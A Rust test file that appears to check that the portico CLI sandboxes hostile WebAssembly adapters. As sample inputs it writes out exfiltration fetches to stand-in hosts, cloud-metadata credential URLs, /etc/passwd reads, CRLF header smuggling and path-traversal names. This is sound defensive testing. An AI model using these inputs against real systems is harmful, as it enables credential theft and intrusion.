//! Hostile adapters: one test per attack (issue 5), each through the real CLI, showing that
//! portico refuses or stops the attack with an error naming the adapter, keeps working (an
//! ordinary command in the same home succeeds afterwards), and leaks no secret (the
//! credential's token never appears in stdout, stderr or the audit log).
//!
//! The attackers are test-only components: `hostile` (one operation per attack, see its crate
//! docs), `hostile-future-wit` (targets `portico:adapter@9.9.9`) and `hostile-escape-name`
//! (calls itself `../../escaped`). Some attacks were already covered by earlier tests with
//! the `broker-probe` adapter; the table names every test.
//!
//! | attack | what | tests |
//! |---|---|---|
//! | 1 | environment, files (`/etc/passwd`, credentials file), preopened dirs, sockets | [`attack_01_environment_files_directories_and_sockets_are_out_of_reach`] |
//! | 2a | undeclared host | `broker::undeclared_host_is_refused_naming_it`, [`attack_02_egress_outside_the_grants_is_refused`] |
//! | 2b | declared, ungranted host | `broker::declared_but_ungranted_host_is_refused`, [`attack_02_egress_outside_the_grants_is_refused`] |
//! | 2c | `169.254.169.254` | `broker::other_loopback_port_and_metadata_service_are_refused`, [`attack_02_egress_outside_the_grants_is_refused`] |
//! | 2d | another port (or spelling) of 127.0.0.1 | `broker::other_loopback_port_and_metadata_service_are_refused`, [`attack_02_loopback_aliases_of_the_endpoint_are_refused`] |
//! | 2e | granted name resolving to loopback | [`attack_02e_granted_name_resolving_to_loopback_is_refused`] |
//! | 3 | credential headers set by the guest | `broker::guest_may_not_set_credential_headers`, [`attack_03_credential_headers_set_by_the_adapter_are_refused`] |
//! | 4 | credential on an unbound host; undeclared credential | `broker::undeclared_credential_is_refused`, [`attack_04_credentials_only_go_where_they_are_bound_and_declared`] |
//! | 5 | `credentials.identity` of a secret field | `broker::identity_reads_only_non_secret_fields`, [`attack_05_identity_of_a_secret_field_is_refused`] |
//! | 6 | endless loop | [`attack_06_endless_loop_is_stopped_at_the_call_deadline`] |
//! | 7 | unbounded allocation | [`attack_07_unbounded_allocation_is_stopped_at_the_memory_limit`] |
//! | 8 | unbounded recursion | [`attack_08_unbounded_recursion_is_reported_as_a_stack_overflow`], [`attack_08_shadow_stack_overflow_is_reported_as_a_stack_overflow`] |
//! | 9 | 10,000 requests in one call | `broker::request_budget_is_enforced_per_call`, [`attack_09_request_flood_is_stopped_at_the_budget`], [`attack_09_swallowed_refusals_are_summarised`] |
//! | 10 | 200 MB response | [`attack_10_huge_response_is_capped_while_streaming`] |
//! | 11 | invalid data: bad UTF-8, invalid JSON, 100 MB strings, malformed cursors | [`attack_11_strings_that_are_not_utf8_are_refused`], [`attack_11_invalid_json_is_shown_as_text`], [`attack_11_huge_strings_are_refused`], [`attack_11_cursor_that_does_not_advance_is_refused`], [`attack_11_cursor_with_terminal_escapes_is_not_printed_raw`] |
//! | 12 | panic | `errors::adapter_trap_exits_2_naming_the_adapter`, [`attack_12_panic_is_reported_and_portico_keeps_working`] |
//! | 13 | unsupported WIT version | [`attack_13_unsupported_wit_version_is_refused_at_install`] |
//! | 14 | modified on disk after install | `install::adapter_changed_after_install_is_refused`, [`attack_14_swapped_component_is_refused_until_reapproved`] |
//! | 15 | `../` or absolute names | `install::profile_and_adapter_names_cannot_escape`, [`attack_15_adapter_naming_itself_with_a_path_is_refused`] |

use crate::support::{Env, Run, assert_no_secrets, closed_port, outputs, random_hex};
use serde_json::Value;

/// A home with `hostile` installed (every declared host granted except
/// `ungranted.hostile.example`), a stored credential for it and a profile `h` whose endpoint is
/// the emulator.
struct Hostile {
    env: Env,
    token: String,
    runs: Vec<Run>,
}

const ACCOUNT: &str = "acct-hostile-7";

fn hostile() -> Hostile {
    let env = Env::with_emulator(Env::config());
    let token = format!("hostile-token-{}", random_hex(16));
    env.set_credential("hostile-cred", &["token", "account"], &[&token, ACCOUNT]);
    let install = env
        .run(&[
            "adapter",
            "install",
            portico_test_artifacts::HOSTILE,
            "--yes",
            "--grant",
            "api.hostile.example",
            "--grant",
            "free.hostile.example",
            "--grant",
            "localhost",
        ])
        .expect_code(0);
    assert!(
        install.stderr.contains("[deny ] ungranted.hostile.example"),
        "{}",
        install.stderr
    );
    let endpoint = format!("endpoint={}", env.emu().url());
    env.run(&[
        "profile",
        "add",
        "h",
        "--adapter",
        "hostile",
        "--credential",
        "hostile-cred",
        "--set",
        &endpoint,
    ])
    .expect_code(0);
    Hostile {
        env,
        token,
        runs: Vec::new(),
    }
}

impl Hostile {
    /// Runs the CLI and keeps the run for the final leak check.
    fn run(&mut self, args: &[&str], env: &[(&str, &str)]) -> &Run {
        let run = self.env.run_with(args, "", env);
        self.runs.push(run);
        self.runs.last().expect("just pushed")
    }

    /// `op call NAME --param k=v ... -o json`.
    fn op(&mut self, name: &str, params: &[(&str, &str)]) -> &Run {
        let params: Vec<String> = params.iter().map(|(k, v)| format!("{k}={v}")).collect();
        let mut args = vec!["op", "call", name, "-o", "json"];
        for p in &params {
            args.extend(["--param", p.as_str()]);
        }
        self.run(&args, &[])
    }

    /// `op call fetch` of `url` with extra parameters.
    fn fetch(&mut self, url: &str, params: &[(&str, &str)]) -> &Run {
        let mut all = vec![("url", url)];
        all.extend_from_slice(params);
        self.op("fetch", &all)
    }

    /// The emulator's URL for `path`.
    fn url(&self, path: &str) -> String {
        format!("{}{path}", self.env.emu().url())
    }

    /// Writes `[limits]` settings into the home's config.
    fn limits(&self, toml: &str) {
        std::fs::write(
            self.env.file("config/config.toml"),
            format!("[limits]\n{toml}\n"),
        )
        .expect("write config.toml");
    }

    /// An ordinary command in the same home still works, the credential still reaches the
    /// endpoint (applied by the host), and no output or audit record so far holds the token.
    #[track_caller]
    fn assert_still_works_and_nothing_leaked(mut self) {
        self.env.emu().clear_requests();
        let ping = self.op("ping", &[]);
        assert_ok(ping);
        let requests = self.env.emu().requests();
        let ping = requests
            .iter()
            .find(|r| r.path == "/hostile/ping")
            .expect("the ping reached the emulator");
        assert_eq!(
            ping.header("authorization"),
            Some(format!("Bearer {}", self.token).as_str()),
            "the host applied the credential"
        );
        let mut haystacks = outputs(&self.runs);
        haystacks.push(("audit log".into(), self.env.audit().into_bytes()));
        assert_no_secrets(&haystacks, &[("hostile token", &self.token)]);
    }
}

/// At most the first 4 KiB of `text`, for failure messages (some attacks produce 100 MiB).
fn excerpt(text: &str) -> &str {
    let mut end = text.len().min(4096);
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    &text[..end]
}

/// Panics unless `run` failed with `code` and its stderr holds every one of `needles`.
#[track_caller]
fn assert_refused(run: &Run, code: i32, needles: &[&str]) {
    assert_eq!(
        run.code,
        code,
        "unexpected exit code\nstdout ({} bytes):\n{}\nstderr:\n{}",
        run.stdout.len(),
        excerpt(&run.stdout),
        excerpt(&run.stderr)
    );
    for needle in needles {
        assert!(
            run.stderr.contains(needle),
            "stderr lacks {needle:?}:\n{}",
            excerpt(&run.stderr)
        );
    }
}

/// Panics unless `run` succeeded.
#[track_caller]
fn assert_ok(run: &Run) {
    assert_refused(run, 0, &[]);
}

/// The field `key` of the JSON report an operation printed.
#[track_caller]
fn report(run: &Run, key: &str) -> String {
    assert_ok(run);
    let value = run.json();
    match &value[key] {
        Value::String(s) => s.clone(),
        other => other.to_string(),
    }
}

#[test]
fn attack_01_environment_files_directories_and_sockets_are_out_of_reach() {
    let mut h = hostile();
    let env_secret = format!("env-secret-{}", random_hex(16));
    let credentials_file = h.env.file("config/credentials.toml");
    let credentials_file = credentials_file
        .to_str()
        .expect("UTF-8 temp path")
        .to_string();
    assert!(
        std::fs::read_to_string(&credentials_file)
            .expect("the credentials file exists")
            .contains(&h.token),
        "the file the adapter tries to read really holds the token"
    );

    // The CLI's own environment holds a credential and the home; the guest sees none of it.
    let env = h
        .run(
            &[
                "op",
                "call",
                "read-env",
                "--param",
                "name=PORTICO_CREDENTIAL_HOSTILE_TOKEN",
                "-o",
                "json",
            ],
            &[("PORTICO_CREDENTIAL_HOSTILE_TOKEN", &env_secret)],
        )
        .json();
    assert_eq!(env["vars"], serde_json::json!([]), "{env}");
    assert_eq!(env["args"], serde_json::json!([]), "{env}");
    let named = env["named"]["value"].as_str().unwrap_or_default();
    assert!(named.starts_with("error"), "{env}");

    for path in [
        "/etc/passwd",
        credentials_file.as_str(),
        "config/credentials.toml",
    ] {
        let run = h.op("read-file", &[("path", path)]);
        let read = report(run, "read");
        assert!(read.starts_with("error"), "{path}: {read}");
        assert!(!run.stdout.contains("root:"), "{}", run.stdout);
        let metadata = report(run, "metadata");
        assert!(metadata.starts_with("error"), "{path}: {metadata}");
    }
    let home = h.env.path().to_str().expect("UTF-8 temp path").to_string();
    for dir in ["/", ".", "/tmp", home.as_str()] {
        let run = h.op("list-dir", &[("path", dir)]);
        let entries = report(run, "entries");
        assert!(entries.starts_with("error"), "{dir}: {entries}");
    }

    // Sockets and name lookups bypassing the broker: the emulator is right there, listening.
    let addr = h.env.emu().url().trim_start_matches("http://").to_string();
    let run = h.op("connect", &[("addr", &addr)]);
    for key in ["tcp", "lookup", "udp"] {
        let seen = report(run, key);
        assert!(seen.starts_with("error"), "{key}: {seen}");
    }
    assert!(
        h.env.emu().requests().is_empty(),
        "nothing reached the emulator"
    );

    let mut haystacks = outputs(&h.runs);
    haystacks.push(("audit log".into(), h.env.audit().into_bytes()));
    assert_no_secrets(&haystacks, &[("environment secret", &env_secret)]);
    h.assert_still_works_and_nothing_leaked();
}

#[test]
fn attack_02_egress_outside_the_grants_is_refused() {
    let mut h = hostile();
    let cases = [
        (
            "https://undeclared.example.net/steal",
            "adapter hostile may not reach https://undeclared.example.net: the adapter did not \
             declare that host",
        ),
        (
            "https://ungranted.hostile.example/",
            "adapter hostile may not reach https://ungranted.hostile.example: that host was not \
             granted",
        ),
        (
            "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            "adapter hostile may not reach http://169.254.169.254",
        ),
        (
            "http://[fd00:ec2::254]/latest/meta-data/",
            "adapter hostile may not reach http://[fd00:ec2::254]",
        ),
    ];
    for (url, message) in cases {
        let run = h.fetch(url, &[("credential", "hostile")]);
        assert_refused(run, 2, &[message]);
    }
    let records = h.env.audit_records();
    assert_eq!(records.len(), cases.len(), "{records:?}");
    assert!(
        records
            .iter()
            .all(|r| r["adapter"] == "hostile" && r["outcome"] == "refused"),
        "{records:?}"
    );
    assert!(h.env.emu().requests().is_empty());
    h.assert_still_works_and_nothing_leaked();
}

#[test]
fn attack_02_loopback_aliases_of_the_endpoint_are_refused() {
    let mut h = hostile();
    let port = h
        .env
        .emu()
        .url()
        .rsplit(':')
        .next()
        .unwrap_or_default()
        .to_string();
    let other = closed_port();
    for url in [
        format!("http://127.0.0.1:{other}/"),
        format!("http://[::1]:{port}/"),
        format!("http://localhost:{port}/"),
        format!("http://127.0.0.2:{port}/"),
        format!("http://0.0.0.0:{port}/"),
        format!("https://127.0.0.1:{port}/"),
    ] {
        let run = h.fetch(&url, &[("credential", "hostile")]);
        assert_refused(run, 2, &["adapter hostile may not reach"]);
    }
    assert!(h.env.emu().requests().is_empty());
    h.assert_still_works_and_nothing_leaked();
}

#[test]
fn attack_02e_granted_name_resolving_to_loopback_is_refused() {
    let mut h = hostile();
    // `localhost` is declared and granted, but the profile's endpoint is 127.0.0.1 by address:
    // the name must not lead to a loopback address. Without the resolved-address check this
    // would be a connection attempt to 127.0.0.1:443 (a transport error, not a refusal).
    let run = h.fetch("https://localhost/admin", &[]);
    assert_refused(
        run,
        2,
        &["adapter hostile may not reach localhost", "resolves to"],
    );
    assert!(!run.stderr.contains("could not connect"), "{}", run.stderr);
    h.assert_still_works_and_nothing_leaked();
}

#[test]
fn attack_03_credential_headers_set_by_the_adapter_are_refused() {
    let mut h = hostile();
    let url = h.url("/hostile/headers");
    for header in [
        "Authorization: Bearer stolen",
        "aUtHoRiZaTiOn: Bearer stolen",
        "Proxy-Authorization: Basic c3RvbGVu",
        "Cookie: session=stolen",
        "X-Soracom-Token: stolen",
        "X-Soracom-API-Key: stolen",
        "Scp-Signature: stolen",
    ] {
        let param = format!("header={header}");
        let run = h.run(
            &[
                "op",
                "call",
                "fetch",
                "--param",
                &format!("url={url}"),
                "--param",
                &param,
            ],
            &[],
        );
        assert_refused(run, 2, &["adapter hostile may not set header"]);
    }
    // Smuggling a second header through a value is not a way around the rule.
    let smuggled = "header=X-Note: fine\r\nAuthorization: Bearer stolen";
    let run = h.run(
        &[
            "op",
            "call",
            "fetch",
            "--param",
            &format!("url={url}"),
            "--param",
            smuggled,
        ],
        &[],
    );
    assert_refused(run, 2, &["invalid header"]);
    assert!(
        h.env.emu().requests().is_empty(),
        "no request left the machine"
    );
    h.assert_still_works_and_nothing_leaked();
}

#[test]
fn attack_04_credentials_only_go_where_they_are_bound_and_declared() {
    let mut h = hostile();
    // Granted host, but the credential is bound only to api.hostile.example and the endpoint.
    let run = h.fetch(
        "https://free.hostile.example/collect",
        &[("credential", "hostile")],
    );
    assert_refused(
        run,
        2,
        &["adapter hostile may not send credential \"hostile\" to free.hostile.example"],
    );
    // Names the adapter did not declare: someone else's, and the stored credential's own name.
    let url = h.url("/hostile/collect");
    for name in ["ionos", "hostile-cred", "../hostile"] {
        let run = h.fetch(&url, &[("credential", name)]);
        assert_refused(
            run,
            2,
            &[&format!("adapter hostile may not use credential {name:?}")],
        );
    }
    assert!(h.env.emu().requests().is_empty());
    h.assert_still_works_and_nothing_leaked();
}

#[test]
fn attack_05_identity_of_a_secret_field_is_refused() {
    let mut h = hostile();
    let run = h.op(
        "identity",
        &[("credential", "hostile"), ("field", "account")],
    );
    assert_ok(run);
    assert_eq!(run.json(), ACCOUNT);
    let run = h.op("identity", &[("credential", "hostile"), ("field", "token")]);
    assert_refused(run, 2, &["is secret"]);
    let run = h.op(
        "identity",
        &[("credential", "hostile-cred"), ("field", "account")],
    );
    assert_refused(
        run,
        2,
        &["adapter hostile may not use credential \"hostile-cred\""],
    );
    h.assert_still_works_and_nothing_leaked();
}

#[test]
fn attack_06_endless_loop_is_stopped_at_the_call_deadline() {
    let mut h = hostile();
    h.limits("call_deadline_secs = 1");
    let run = h.op("loop", &[]);
    assert_refused(
        run,
        2,
        &["adapter hostile exceeded its call deadline of 1s during op:loop"],
    );
    h.assert_still_works_and_nothing_leaked();
}

#[test]
fn attack_07_unbounded_allocation_is_stopped_at_the_memory_limit() {
    let mut h = hostile();
    h.limits("memory_mib = 32");
    let run = h.op("alloc", &[]);
    assert_refused(
        run,
        2,
        &["adapter hostile exceeded its memory limit of 32 MiB during op:alloc"],
    );
    h.assert_still_works_and_nothing_leaked();
}

#[test]
fn attack_08_unbounded_recursion_is_reported_as_a_stack_overflow() {
    let mut h = hostile();
    // Small frames live on the engine's native wasm stack, whose limit stops the recursion.
    let run = h.op("recurse", &[("frame", "small")]);
    assert_refused(
        run,
        2,
        &["adapter hostile overflowed its stack during op:recurse"],
    );
    h.assert_still_works_and_nothing_leaked();
}

#[test]
fn attack_08_shadow_stack_overflow_is_reported_as_a_stack_overflow() {
    let mut h = hostile();
    let run = h.op("recurse", &[("frame", "large")]);
    assert_refused(run, 2, &["adapter hostile", "during op:recurse"]);
    assert!(run.stderr.contains("stack"), "{}", run.stderr);
    h.assert_still_works_and_nothing_leaked();
}

/// The emulator's count of requests to `/hostile/flood`.
fn flood_requests(h: &Hostile) -> usize {
    h.env
        .emu()
        .requests()
        .iter()
        .filter(|r| r.path == "/hostile/flood")
        .count()
}

#[test]
fn attack_09_request_flood_is_stopped_at_the_budget() {
    let mut h = hostile();
    let url = h.url("/hostile/flood");
    // The default budget (200 requests per call): the adapter gives up at the first refusal.
    let run = h.op("flood", &[("url", &url), ("count", "10000")]);
    assert_refused(
        run,
        2,
        &["adapter hostile exceeded its budget of 200 requests per call"],
    );
    assert_eq!(flood_requests(&h), 200);

    // An adapter that ignores the refusals and keeps going gets nothing more through, and the
    // user is told about the refusals even though the adapter swallowed them.
    h.env.emu().clear_requests();
    h.limits("requests_per_call = 20");
    let run = h.op(
        "flood",
        &[("url", &url), ("count", "10000"), ("on-error", "ignore")],
    );
    assert_ok(run);
    assert!(
        run.stderr
            .contains("adapter hostile exceeded its budget of 20 requests per call"),
        "{}",
        run.stderr
    );
    let result = run.json();
    assert_eq!(result["sent"], 20, "{result}");
    assert_eq!(result["refused"], 9980, "{result}");
    assert_eq!(flood_requests(&h), 20);
    h.assert_still_works_and_nothing_leaked();
}

#[test]
fn attack_09_swallowed_refusals_are_summarised() {
    let mut h = hostile();
    h.limits("requests_per_call = 20");
    let url = h.url("/hostile/flood");
    let run = h.op(
        "flood",
        &[("url", &url), ("count", "10000"), ("on-error", "ignore")],
    );
    assert_ok(run);
    assert!(
        run.stderr
            .contains("adapter hostile exceeded its budget of 20 requests per call"),
        "{}",
        run.stderr
    );
    let lines = run.stderr.lines().count();
    assert!(lines < 50, "{lines} lines on stderr");
    h.assert_still_works_and_nothing_leaked();
}

#[test]
fn attack_10_huge_response_is_capped_while_streaming() {
    let mut h = hostile();
    const TWO_HUNDRED_MB: u64 = 200 * 1024 * 1024;
    for declared in [false, true] {
        let tag = random_hex(8);
        let url = h.url(&format!(
            "/_emulator/bytes?n={TWO_HUNDRED_MB}&length={declared}&tag={tag}"
        ));
        let run = h.op("big-response", &[("url", &url)]);
        assert_refused(
            run,
            2,
            &[
                "hostile op:big-response",
                "response body exceeds the limit of 16777216 bytes",
            ],
        );
        // The host stopped reading at the cap: the emulator (which produces chunks only as
        // the client reads them) got nowhere near 200 MB out.
        let served = served_bytes(&h.env, &tag);
        assert!(
            served < 48 * 1024 * 1024,
            "declared length {declared}: {served} bytes were produced"
        );
    }
    h.assert_still_works_and_nothing_leaked();
}

/// How many bytes the emulator's `/bytes` streams tagged `tag` produced.
fn served_bytes(env: &Env, tag: &str) -> u64 {
    let url = format!("{}/_emulator/bytes/served?tag={tag}", env.emu().url());
    let body = blocking_get(&url);
    let value: Value = serde_json::from_str(&body).expect("JSON");
    value["bytes"].as_u64().expect("a count")
}

/// A plain HTTP/1.1 GET to the emulator, without a client library.
fn blocking_get(url: &str) -> String {
    use std::io::{Read as _, Write as _};
    let rest = url.strip_prefix("http://").expect("http URL");
    let (authority, path) = rest.split_at(rest.find('/').unwrap_or(rest.len()));
    let mut stream = std::net::TcpStream::connect(authority).expect("connect to the emulator");
    write!(
        stream,
        "GET {path} HTTP/1.1\r\nHost: {authority}\r\nConnection: close\r\n\r\n"
    )
    .expect("send");
    let mut response = String::new();
    stream.read_to_string(&mut response).expect("read");
    let (head, body) = response.split_once("\r\n\r\n").expect("a response");
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    body.to_string()
}

#[test]
fn attack_11_strings_that_are_not_utf8_are_refused() {
    let mut h = hostile();
    let run = h.run(&["gateway", "list", "--kind", "bad-utf8-name"], &[]);
    assert_refused(run, 2, &["adapter hostile", "gateway.list"]);
    assert!(
        run.stderr.to_lowercase().contains("utf-8"),
        "{}",
        run.stderr
    );
    assert!(run.stdout.is_empty(), "{}", run.stdout);
    let run = h.op("bad-utf8", &[]);
    assert_refused(run, 2, &["adapter hostile", "op:bad-utf8"]);
    assert!(
        run.stderr.to_lowercase().contains("utf-8"),
        "{}",
        run.stderr
    );
    h.assert_still_works_and_nothing_leaked();
}

#[test]
fn attack_11_invalid_json_is_shown_as_text() {
    let mut h = hostile();
    // The provider document is only displayed; text that is not JSON is shown as a string
    // instead of being parsed into something else or crashing the output.
    let run = h.run(
        &["gateway", "list", "--kind", "bad-json-raw", "-o", "json"],
        &[],
    );
    assert_ok(run);
    let list = run.json();
    assert_eq!(list[0]["provider"], "{\"unterminated\": [1, 2", "{list}");
    h.assert_still_works_and_nothing_leaked();
}

#[test]
fn attack_11_huge_strings_are_refused() {
    let mut h = hostile();
    let run = h.run(
        &["gateway", "list", "--kind", "huge-name", "-o", "json"],
        &[],
    );
    assert_refused(run, 2, &["adapter hostile", "gateway.list"]);
    assert!(
        run.stdout.len() < 1 << 20,
        "{} bytes of output",
        run.stdout.len()
    );
    let run = h.op("huge-string", &[]);
    assert_refused(run, 2, &["adapter hostile", "op:huge-string"]);
    assert!(
        run.stdout.len() < 1 << 20,
        "{} bytes of output",
        run.stdout.len()
    );
    // Keep the leak check cheap: the two runs above hold no token, and scanning 200 MB of
    // 'x' would only slow the test down.
    h.runs.clear();
    h.assert_still_works_and_nothing_leaked();
}

#[test]
fn attack_11_cursor_that_does_not_advance_is_refused() {
    let mut h = hostile();
    let run = h.run(&["gateway", "list", "--kind", "stuck-cursor", "--all"], &[]);
    assert_refused(
        run,
        2,
        &["adapter hostile returned a cursor that does not advance"],
    );
    let run = h.run(
        &["op", "call", "bad-cursor", "--param", "mode=stuck", "--all"],
        &[],
    );
    assert_refused(
        run,
        2,
        &["adapter hostile returned a cursor that does not advance"],
    );
    h.assert_still_works_and_nothing_leaked();
}

#[test]
fn attack_11_cursor_with_terminal_escapes_is_not_printed_raw() {
    let mut h = hostile();
    let run = h.run(&["gateway", "list", "--kind", "escape-cursor"], &[]);
    assert_ok(run);
    assert!(run.stderr.contains("--cursor"), "{}", run.stderr);
    assert!(
        !run.stderr.contains('\u{1b}') && !run.stdout.contains('\u{1b}'),
        "{:?}",
        run.stderr
    );
    let run = h.op("bad-cursor", &[("mode", "escape")]);
    assert_ok(run);
    assert!(
        !run.stderr.contains('\u{1b}') && !run.stdout.contains('\u{1b}'),
        "{:?}",
        run.stderr
    );
    h.assert_still_works_and_nothing_leaked();
}

#[test]
fn attack_12_panic_is_reported_and_portico_keeps_working() {
    let mut h = hostile();
    let run = h.op("panic", &[]);
    assert_refused(
        run,
        2,
        &[
            "adapter hostile panicked during op:panic",
            "the hostile adapter was asked to panic",
        ],
    );
    h.assert_still_works_and_nothing_leaked();
}

#[test]
fn attack_13_unsupported_wit_version_is_refused_at_install() {
    let env = Env::with_emulator(Env::config());
    let run = env
        .run(&[
            "adapter",
            "install",
            portico_test_artifacts::HOSTILE_FUTURE_WIT,
            "--yes",
        ])
        .expect_code(2);
    assert!(
        run.stderr.contains("portico_test_hostile_future_wit.wasm")
            && run.stderr.contains(
                "targets portico:adapter@9.9.9, which this portico does not support \
                 (supported versions: 0.1.0, 0.2.0)"
            ),
        "{}",
        run.stderr
    );
    let list = env.json(&["adapter", "list"]);
    assert_eq!(list, serde_json::json!([]), "nothing was installed");
    assert!(
        std::fs::read_dir(env.file("adapters"))
            .map(|d| d.count() == 0)
            .unwrap_or(true),
        "no component was copied into the home"
    );
    // portico itself is fine: a supported adapter installs and runs in the same home.
    env.install_with_profile(portico_test_artifacts::HOSTILE, "hostile", None, &[]);
    env.run(&["gateway", "list"]).expect_code(0);
}

#[test]
fn attack_14_swapped_component_is_refused_until_reapproved() {
    let mut h = hostile();
    h.op("ping", &[]);
    // Another valid adapter put in place of the approved one.
    let installed = h.env.file("adapters/hostile.wasm");
    std::fs::copy(portico_test_artifacts::BROKER_PROBE, &installed).expect("swap the component");
    h.env.emu().clear_requests();
    let run = h.op("ping", &[]);
    assert_refused(
        run,
        2,
        &[
            "adapter hostile was modified after it was approved",
            "refusing to run it",
        ],
    );
    assert!(h.env.emu().requests().is_empty(), "it did not run");
    h.run(
        &[
            "adapter",
            "install",
            portico_test_artifacts::HOSTILE,
            "--yes",
            "--grant",
            "api.hostile.example",
        ],
        &[],
    );
    assert_eq!(h.runs.last().map(|r| r.code), Some(0));
    h.assert_still_works_and_nothing_leaked();
}

#[test]
fn attack_15_adapter_naming_itself_with_a_path_is_refused() {
    let env = Env::new();
    let run = env
        .run(&[
            "adapter",
            "install",
            portico_test_artifacts::HOSTILE_ESCAPE_NAME,
            "--yes",
        ])
        .expect_code(1);
    assert!(
        run.stderr
            .contains("invalid adapter name \"../../escaped\""),
        "{}",
        run.stderr
    );
    // `adapters/../../escaped.wasm` would be next to the home.
    let outside = env.path().parent().expect("the home has a parent");
    let home_name = env.path().file_name().expect("a name");
    for dir in [outside, env.path()] {
        let escaped: Vec<_> = std::fs::read_dir(dir)
            .expect("list")
            .flatten()
            .map(|e| e.file_name())
            .filter(|n| n != home_name && n.to_string_lossy().starts_with("escaped"))
            .collect();
        assert!(escaped.is_empty(), "{escaped:?} in {}", dir.display());
    }
    assert_eq!(env.json(&["adapter", "list"]), serde_json::json!([]));
    env.run(&[
        "adapter",
        "install",
        portico_test_artifacts::HOSTILE,
        "--yes",
    ])
    .expect_code(0);
}
